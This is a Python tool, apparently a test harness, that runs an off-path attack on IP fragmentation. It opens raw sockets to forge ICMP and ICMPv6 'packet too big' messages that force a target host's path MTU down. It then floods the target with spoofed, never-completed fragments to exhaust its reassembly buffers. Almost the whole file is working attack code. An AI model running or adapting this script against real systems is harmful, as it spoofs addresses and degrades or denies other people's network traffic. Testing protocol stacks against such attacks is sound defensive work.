# SPDX-License-Identifier: BSD-3-Clause
"""Tells a host that a way of its is narrow, and takes its room for joining fragments: what a host
off the path can do to datagrams that are cut.

forge_lengths.py FROM TO FROM_PORT TO_PORT [FROM TO FROM_PORT TO_PORT]
    tells TO that what it sends from TO_PORT to FROM, FROM_PORT is too long, and sends it fragments
    of datagrams that never come, from addresses near FROM; until its input ends, or for 20 seconds.
    IPv4 or IPv6. Says "ready" after the first burst.
"""

import ipaddress
import select
import socket
import struct
import sys
import time

_LONGEST_S = 20.0
_BURST = 12_000
_PAUSE_S = 0.05
_EACH_PAUSE = 30  # fragments: 600 a second
_TELL = 6
_ICMP, _FRAGMENT, _UDP, _ICMP6 = 1, 44, 17, 58
_FRAGMENT_BYTES = 1400

Address = ipaddress.IPv4Address | ipaddress.IPv6Address


def checksum(data: bytes) -> int:
    """RFC 1071."""
    data += bytes(len(data) % 2)
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ip(ends: tuple[Address, Address], protocol: int, body: bytes, flags: int, name: int) -> bytes:
    """A packet; of IPv4 with these flags and offset of a fragment."""
    source, target = ends
    if source.version == 6:
        head = struct.pack("!IHBB", 6 << 28, len(body), protocol, 64)
        return head + source.packed + target.packed + body
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(body), name, flags, 64, protocol, 0)
    head += source.packed + target.packed
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + body


def too_long(source: Address, target: Address, ports: tuple[int, int], mtu: int) -> bytes:
    """What a router would say to `target` of a datagram to `source`, with a key that is wrong."""
    frame = bytes([0x37, 16]) + bytes(6) + b"\x01\x02\x03\x04" + bytes(300)
    datagram = struct.pack("!HHHH", ports[1], ports[0], 1400, 0) + frame
    quote = ip((target, source), _UDP, datagram, 0x4000, 1)
    if source.version == 6:
        body = struct.pack("!BBHI", 2, 0, 0, mtu) + quote
        pseudo = source.packed + target.packed + struct.pack("!II", len(body), _ICMP6)
        body = body[:2] + struct.pack("!H", checksum(pseudo + body)) + body[4:]
        return ip((source, target), _ICMP6, body, 0, 0)
    body = struct.pack("!BBHHH", 3, 4, 0, 0, mtu) + quote
    body = body[:2] + struct.pack("!H", checksum(body)) + body[4:]
    return ip((source, target), _ICMP, body, 0, 1)


def fragment(source: Address, target: Address, number: int) -> bytes:
    """The beginning of a datagram of which no more comes."""
    near = type(source)(int(source) + 256 * (1 + number % 200))
    if source.version == 6:
        head = struct.pack("!BBHI", _UDP, 0, 1, number)
        return ip((near, target), _FRAGMENT, head + bytes(_FRAGMENT_BYTES), 0, 0)
    return ip((near, target), _UDP, bytes(_FRAGMENT_BYTES), 0x2000, number & 0xFFFF)


def main() -> None:
    aims = []
    for at in range(1, len(sys.argv), 4):
        source, target = map(ipaddress.ip_address, sys.argv[at : at + 2])
        aims.append((source, target, (int(sys.argv[at + 2]), int(sys.argv[at + 3]))))
    version = aims[0][0].version
    family, mtu = (socket.AF_INET, 552) if version == 4 else (socket.AF_INET6, 1280)
    end = time.monotonic() + _LONGEST_S
    sent = 0
    with socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW) as forger:
        forger.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)

        def fragments(count: int) -> None:
            nonlocal sent
            for source, target, _ in aims:
                for number in range(sent, sent + count):
                    forger.sendto(fragment(source, target, number), (str(target), 0))
            sent += count

        def lengths() -> None:
            for source, target, ports in aims:
                forger.sendto(too_long(source, target, ports, mtu), (str(target), 0))

        for _ in range(_TELL):
            lengths()
        fragments(_BURST)
        print("ready", flush=True)
        while time.monotonic() < end and not select.select([sys.stdin], [], [], _PAUSE_S)[0]:
            lengths()
            fragments(_EACH_PAUSE)


if __name__ == "__main__":
    main()
